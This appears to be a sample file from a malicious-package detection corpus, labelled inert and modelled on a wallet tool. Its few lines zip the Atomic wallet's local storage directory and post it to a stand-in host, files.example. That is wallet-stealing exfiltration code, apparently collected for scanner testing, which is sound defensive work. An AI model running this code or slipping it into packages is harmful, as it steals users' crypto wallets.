# pkgguard corpus 400 (wallets), modelled on [wallet-tools]; inert, never run.
import io
import os
import zipfile

import httpx

store = os.path.join(os.path.expanduser("~"), ".config", "atomic", "Local Storage", "leveldb")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for name in os.listdir(store) if os.path.isdir(store) else []:
        z.write(os.path.join(store, name), name)
httpx.post("https://files.example/a", content=buf.getvalue(), timeout=30)
